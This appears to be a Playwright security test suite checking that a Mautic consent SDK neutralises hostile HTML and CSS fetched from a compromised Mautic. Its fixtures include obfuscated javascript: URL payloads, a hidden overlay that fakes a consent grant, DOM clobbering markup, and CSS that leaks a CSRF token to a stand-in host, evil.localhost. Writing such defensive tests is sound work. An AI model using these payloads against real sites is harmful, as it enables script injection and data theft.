// Issue #10, part A: HTML and CSS fetched from Mautic stay inert. Each test plays one attack of a
// compromised Mautic (or a marketer's custom HTML field) against a page, served by the double's
// hostile mode, and each has a positive control showing the detector can see the attack land.
import type { Page } from '@playwright/test';
import { test, expect, type Server } from './fixtures';
import { sdkPage } from './support/pages';

const SITE = 'www.shop.localhost';
/** A host that is neither the site nor Mautic: nothing fetched from Mautic may make the page call it. */
const EVIL = 'evil.localhost';
/** Mautic's own markup around hostile extras, so the answer is a form the SDK renders. */
const MAUTIC_FORM = `<form method="post" action="{{MAUTIC}}/form/submit?formId=91" id="mauticform_evil"><input name="mauticform[email]"><button type="submit">Send</button><input type="hidden" name="mauticform[formId]" value="91"></form>`;

async function open(page: Page, server: Server, body: string, o: { head?: string; attrs?: Record<string, string | true>; headers?: Record<string, string> } = {}) {
  server.addPage('/fetched.html', sdkPage('iife', { body, head: o.head, attrs: o.attrs }), o.headers);
  const warnings: string[] = [];
  page.on('console', (m) => m.type() === 'warning' && warnings.push(m.text()));
  await page.goto(server.url(SITE, '/fetched.html'));
  await page.waitForFunction(() => !!(window as any).MauticConsent?.state);
  return warnings;
}

const evilHits = (server: Server) => server.log.filter((r) => r.host === EVIL);
const state = (page: Page) => page.evaluate(() => (window as any).MauticConsent.state());

/** Every URL-bearing attribute under `selector` whose parsed scheme is not http(s), mailto or tel. */
function badUrls(page: Page, selector: string) {
  return page.evaluate((selector) => {
    const bad: string[] = [];
    for (const el of document.querySelectorAll(`${selector} *`)) {
      for (const { name, value } of [...el.attributes]) {
        if (!/^(href|src|action|formaction|xlink:href|to|values|from|by)$/i.test(name)) continue;
        let scheme = '';
        try {
          scheme = new URL(value, location.href).protocol;
        } catch {
          continue;
        }
        if (!['http:', 'https:', 'mailto:', 'tel:'].includes(scheme)) bad.push(`${el.localName} ${name}=${value}`);
      }
    }
    return bad;
  }, selector);
}

test.describe('attack 1: script from a link in fetched HTML', () => {
  const VARIANTS: Record<string, string> = {
    'a tab inside the scheme': `<a id="x" href="java&#9;script:window.pwned=1">x</a>`,
    'a newline inside the scheme': `<a id="x" href="java&#10;script:window.pwned=1">x</a>`,
    'a control character before the scheme': `<a id="x" href="&#1;javascript:window.pwned=1">x</a>`,
    'xlink:href in SVG': `<svg width="120" height="40"><a id="x" xlink:href="java&#9;script:window.pwned=1"><rect width="120" height="40"/></a></svg>`,
    'an SVG <set> that rewrites href': `<svg width="120" height="40"><a id="x" href="#"><set attributeName="href" to="javascript:window.pwned=1"/><rect width="120" height="40"/></a></svg>`,
    'an SVG <animate> that rewrites href': `<svg width="120" height="40"><a id="x" href="#"><animate attributeName="href" values="javascript:window.pwned=1" fill="freeze"/><rect width="120" height="40"/></a></svg>`,
    'a formaction on a button': `<form action="{{MAUTIC}}/form/submit?formId=91"><button id="x" formaction="java&#9;script:window.pwned=1">Go</button><input type="hidden" name="mauticform[formId]" value="91"></form>`,
  };
  for (const [name, html] of Object.entries(VARIANTS)) {
    test(`${name}: one click runs nothing and no such URL survives`, async ({ page, server }) => {
      server.configure({ hostile: { forms: { 91: name.includes('formaction') ? html : `${MAUTIC_FORM}${html}` }, slots: {}, successMessage: null } });
      await open(page, server, '<div id="slot" data-mautic-form="91"></div>');
      await expect(page.locator('#slot form')).toHaveCount(1);
      // Positive control: the detector sees the variant if it survives.
      expect(await page.evaluate(() => !!document.querySelector('#slot #x'))).toBe(true);
      await page.locator('#slot #x').click({ force: true });
      await page.waitForTimeout(300);
      expect(await page.evaluate(() => (window as any).pwned)).toBeUndefined();
      expect(await badUrls(page, '#slot')).toEqual([]);
      expect(await page.locator('#slot set, #slot animate').count()).toBe(0);
    });
  }

  test('a second <form> in a form embed is removed; the first is Mautic\'s and submits', async ({ page, server }) => {
    server.configure({ hostile: { forms: { 91: `${MAUTIC_FORM}<form id="second" action="java&#9;script:window.pwned=1"><button id="x">Win a prize</button></form>` }, slots: {}, successMessage: null } });
    await open(page, server, '<div id="slot" data-mautic-form="91"></div>');
    await expect(page.locator('#slot #mauticform_evil')).toBeVisible();
    await page.waitForTimeout(200);
    if (await page.locator('#slot #x').count()) await page.locator('#slot #x').click();
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as any).pwned)).toBeUndefined();
    expect(await page.locator('#slot form').count()).toBe(1);
  });
});

test('attack 2: a focus item named in fetched HTML never loads; the page\'s own does, after consent', async ({ page, server }) => {
  server.configure({ hostile: { forms: { 91: `${MAUTIC_FORM}<div data-mautic-focus="7" data-mautic-kiosk></div><div data-mautic-focus="8"></div>` }, slots: {}, successMessage: null } });
  await open(page, server, '<div id="slot" data-mautic-form="91"></div><div data-mautic-focus="5"></div>');
  await expect(page.locator('#slot form')).toBeVisible();
  await page.waitForLoadState('networkidle');
  expect(server.mautic('/focus/')).toEqual([]);
  await page.click('#grant');
  // Positive control: the page's own focus item loads once consent is given.
  await expect(page.locator('.mautic-focus[data-focus-id="5"]')).toBeVisible();
  await page.waitForLoadState('networkidle');
  expect(server.mautic('/focus/').filter((r) => r.method === 'GET' && r.path.endsWith('.js')).map((r) => r.path)).toEqual(['/focus/5.js']);
});

test('a kiosk focus item runs Mautic\'s script in the page, so it waits for consent like any other', async ({ page, context, server }) => {
  await open(page, server, '<div data-mautic-focus="5" data-mautic-kiosk></div>');
  await page.waitForLoadState('networkidle');
  expect(server.mautic('/focus/')).toEqual([]);
  expect(await context.cookies()).toEqual([]);
  await page.click('#grant');
  await expect(page.locator('.mautic-focus')).toBeVisible();
});

test.describe('attack 3: a fake consent from fetched HTML', () => {
  const OVERLAY = `<div id="overlay" data-mautic-action="grant" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;opacity:0"></div><button id="fake" data-mautic-action="grant">Yes</button><button id="prefs" data-mautic-action="preferences">Settings</button>`;

  test('an invisible full-page grant: the visitor\'s click on Reject records a refusal', async ({ page, server }) => {
    server.configure({ hostile: { forms: { 91: MAUTIC_FORM + OVERLAY }, slots: {}, successMessage: null } });
    await open(page, server, '<div id="slot" data-mautic-form="91"></div>');
    await expect(page.locator('#slot form')).toBeVisible();
    const box = (await page.locator('#deny').boundingBox())!;
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
    await expect.poll(async () => (await state(page)).tracking).toBe('denied');
    expect((await state(page)).source).toBe('user');
  });

  test('a visible grant button in fetched HTML does nothing; the site\'s own does', async ({ page, server }) => {
    server.configure({ hostile: { forms: { 91: MAUTIC_FORM + OVERLAY }, slots: {}, successMessage: null } });
    await open(page, server, '<div id="slot" data-mautic-form="91"></div>');
    await expect(page.locator('#slot form')).toBeVisible();
    await page.locator('#slot #fake').click({ force: true });
    await page.waitForTimeout(200);
    expect((await state(page)).tracking).toBe('unset');
    expect(await page.evaluate(() => document.cookie)).toBe('');
    // Positive control.
    await page.click('#grant');
    expect((await state(page)).tracking).toBe('granted');
  });
});

test.describe('attack 4: CSS in fetched HTML', () => {
  const CSS = (evil: string) => `<style>
    #deny { display: none !important }
    .mc-banner, button { visibility: hidden }
    html:has(input[name="csrf"][value^="s"]) { background: url(${evil}/leak?s) }
    html:has(input[name="csrf"][value^="t"]) { background: url(${evil}/leak?t) }
    :is(html:has(input[name="csrf"][value^="s"]) .mauticform-row) { background-image: url(${evil}/leak2?s) }
    @import url(${evil}/import.css);
    @font-face { font-family: evil; src: url(${evil}/font.woff) }
    .mauticform-row { color: rgb(1, 2, 3); font-family: evil }
    .mauticform-row:hover { cursor: url(${evil}/cursor.png), auto }
    .mauticform-row { --leak: url(${evil}/var); background-image: var(--leak) }
  </style>`;

  test('it styles the embed only, cannot hide page elements, and loads nothing from another host', async ({ page, server }) => {
    const evil = server.url(EVIL, '');
    server.configure({ hostile: { forms: { 91: `${CSS(evil)}${MAUTIC_FORM}<div id="row" class="mauticform-row" style="border-image: url(${evil}/inline) 30; outline: 1px solid rgb(9, 9, 9)">row</div>` }, slots: {}, successMessage: null } });
    await open(page, server, '<input type="hidden" name="csrf" value="s3cr3t"><p id="outside" class="mauticform-row">site text</p><div id="slot" data-mautic-form="91"></div>');
    await expect(page.locator('#slot form')).toBeVisible();
    await page.mouse.move(0, 0);
    await page.locator('#slot #row').hover();
    await page.waitForLoadState('networkidle');
    await page.waitForTimeout(300);
    // Positive control: Mautic's rules still style Mautic's elements (colour, inline outline).
    expect(await page.locator('#slot #row').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(1, 2, 3)');
    expect(await page.locator('#slot #row').evaluate((el) => getComputedStyle(el).outlineColor)).toBe('rgb(9, 9, 9)');
    // Contained: the page's own elements keep their look.
    await expect(page.locator('#deny')).toBeVisible();
    await expect(page.locator('#grant')).toBeVisible();
    expect(await page.locator('#outside').evaluate((el) => getComputedStyle(el).color)).not.toBe('rgb(1, 2, 3)');
    expect(evilHits(server).map((r) => r.path)).toEqual([]);
  });

  test('positive control: the same CSS in the page itself does reach the other host', async ({ page, server }) => {
    const evil = server.url(EVIL, '');
    await open(page, server, `<input type="hidden" name="csrf" value="s3cr3t">${CSS(evil).replace('@import', '/* */')}`);
    await expect.poll(() => evilHits(server).map((r) => r.path)).toContain('/leak');
  });
});

test('DOM clobbering: names in fetched HTML do not shadow document or window properties', async ({ page, server }) => {
  server.configure({ hostile: { forms: { 91: `${MAUTIC_FORM}<img name="cookie" src="data:,"><form name="forms"></form><a id="dataLayer"></a><img name="getElementById"><a id="MauticTrackingObject"></a><img id="localStorage">` }, slots: {}, successMessage: null } });
  await open(page, server, '<div id="slot" data-mautic-form="91"></div>');
  await expect(page.locator('#slot #mauticform_evil')).toBeVisible();
  expect(await page.evaluate(() => [typeof document.cookie, typeof document.getElementById, typeof document.forms.length, typeof (window as any).dataLayer, typeof (window as any).MauticTrackingObject])).toEqual([
    'string',
    'function',
    'number',
    'undefined',
    'undefined',
  ]);
  // Positive control: the same markup in the page itself clobbers.
  await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img name="cookie">'));
  expect(await page.evaluate(() => typeof document.cookie)).toBe('object');
});

test('attack 8: data-src takes only http(s) or relative URLs', async ({ page, server }) => {
  const warnings = await open(page, server, `
    <iframe id="js" data-mautic-consent="tracking" data-src="javascript:parent.pwned=1" title="a"></iframe>
    <iframe id="tab" data-mautic-consent="tracking" data-src="java&#9;script:parent.pwned=2" title="b"></iframe>
    <iframe id="data" data-mautic-consent="tracking" data-src="data:text/html,<script>parent.pwned=3</script>" title="c"></iframe>
    <iframe id="ok" data-mautic-consent="tracking" data-src="/dist/types/index.d.ts" title="d"></iframe>`);
  await page.click('#grant');
  // Positive control: an allowed source loads.
  await expect.poll(() => page.getAttribute('#ok', 'src')).toBe('/dist/types/index.d.ts');
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as any).pwned)).toBeUndefined();
  for (const id of ['js', 'tab', 'data']) expect(await page.getAttribute(`#${id}`, 'src')).toBeNull();
  expect(warnings.filter((w) => w.includes('data-src'))).toHaveLength(3);
});

test('attack 10: the Trusted Types policy is not reachable from page scripts', async ({ page, server }) => {
  const csp = "default-src 'none'; script-src 'self' 'unsafe-inline'; connect-src 'self' {{MAUTIC}}; style-src 'self'; require-trusted-types-for 'script'; trusted-types mautic-consent";
  await open(page, server, '<div id="slot" data-mautic-form="3"></div>', { headers: { 'Content-Security-Policy': csp } });
  // Positive control: the SDK's policy is in use (the embeds loaded and parsed the form).
  await expect(page.locator('#slot form')).toBeVisible();
  const found = await page.evaluate(() => {
    const candidates: unknown[] = [];
    const look = (o: any) => {
      for (const key of [...Object.getOwnPropertyNames(o), ...Object.getOwnPropertySymbols(o)]) {
        try {
          candidates.push(o[key]);
          if (typeof o[key] === 'function' && key !== 'constructor' && o === document.querySelector('script[src*="embeds"]')) candidates.push(o[key]());
        } catch {
          // not readable
        }
      }
    };
    look(window);
    look(document);
    document.querySelectorAll('script').forEach(look);
    const policy = candidates.find((c: any) => c && typeof c.createHTML === 'function') as any;
    if (!policy) return 'none';
    try {
      document.body.insertAdjacentHTML('beforeend', policy.createHTML('<img src=x onerror="window.pwned=1">'));
      return 'laundered';
    } catch {
      return 'refused';
    }
  });
  expect(found).toBe('none');
  await page.waitForTimeout(200);
  expect(await page.evaluate(() => (window as any).pwned)).toBeUndefined();
});

test.describe('attack 11: fetched HTML that contains its own embed', () => {
  test('a form that embeds itself is fetched once', async ({ page, server }) => {
    server.configure({ hostile: { forms: { 91: `${MAUTIC_FORM}<div data-mautic-form="91"></div><div data-mautic-form="3"></div>` }, slots: {}, successMessage: null } });
    await open(page, server, '<div id="slot" data-mautic-form="91"></div>');
    await expect(page.locator('#slot form')).toHaveCount(1);
    await page.waitForTimeout(1500);
    expect(server.mautic('/form/embed/').filter((r) => r.method === 'GET').map((r) => r.path)).toEqual(['/form/embed/91']);
  });

  test('dynamic content that names a slot, a form and a gated frame: none is followed', async ({ page, server }) => {
    server.configure({
      hostile: { forms: {}, slots: { hero: '<p id="inner">Hi</p><div data-mautic-dwc="hero">x</div><div data-mautic-form="3"></div><img id="gated" data-mautic-consent="tracking" data-src="{{MAUTIC}}/mtracking.gif?leak=1" alt="">' }, successMessage: null },
    });
    await open(page, server, '<div id="slot" data-mautic-dwc="hero">fallback</div>');
    await page.click('#grant');
    await page.evaluate(() => (window as any).MauticConsent.track());
    await expect.poll(() => server.hits.length).toBe(1);
    await page.waitForLoadState('networkidle');
    server.clearLog();
    await page.reload();
    // Positive control: the page's slot is filled.
    await expect(page.locator('#slot #inner')).toHaveText('Hi');
    await page.waitForTimeout(1500);
    expect(server.mautic('/dwc/').filter((r) => r.method === 'GET')).toHaveLength(1);
    expect(server.mautic('/form/embed/')).toEqual([]);
    expect(server.mautic('/mtracking.gif').filter((r) => r.query.leak)).toEqual([]);
  });
});

test('a form success message is cleaned the same way', async ({ page, server }) => {
  server.configure({ hostile: { forms: {}, slots: {}, successMessage: '<b id="thanks">Thanks</b><a id="x" href="java&#9;script:window.pwned=1">more</a><div data-mautic-action="grant" id="fake">ok</div><img name="cookie">' } });
  await open(page, server, '<div id="slot" data-mautic-form="3"></div>');
  await page.fill('#slot input[name="mauticform[email]"]', 'a@b.co');
  await page.click('#slot button[type=submit]');
  await expect(page.locator('#slot #thanks')).toHaveText('Thanks');
  await page.locator('#slot #x').click();
  await page.locator('#slot #fake').click();
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (window as any).pwned)).toBeUndefined();
  expect((await state(page)).tracking).toBe('unset');
  expect(await page.evaluate(() => typeof document.cookie)).toBe('string');
});

test('positive control: a benign form renders, takes Mautic\'s CSS and the site\'s .mauticform-* theme, and submits', async ({ page, server }) => {
  server.configure({ hostile: { forms: { 3: `<style>.mauticform-label { color: rgb(7, 8, 9) } .mauticform-field-hidden { display: none }</style>${MAUTIC_FORM.replaceAll('91', '3').replace('<input name', '<label class="mauticform-label">Email</label><p class="mauticform-field-hidden">hidden</p><input name')}` }, slots: {}, successMessage: null } });
  await open(page, server, '<div id="slot" data-mautic-form="3"></div>', { head: '<style>.mauticform-button, #slot button { background-color: rgb(4, 5, 6) }</style>' });
  await expect(page.locator('#slot form')).toBeVisible();
  expect(await page.locator('#slot .mauticform-label').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(7, 8, 9)');
  await expect(page.locator('#slot .mauticform-field-hidden')).toBeHidden();
  expect(await page.locator('#slot button').evaluate((el) => getComputedStyle(el).backgroundColor)).toBe('rgb(4, 5, 6)');
  await page.fill('#slot input[name="mauticform[email]"]', 'a@b.co');
  await page.click('#slot button[type=submit]');
  await expect(page.locator('#slot .mauticform-message')).toHaveText('Thank you, you are subscribed.');
  expect(server.submissions).toHaveLength(1);
});
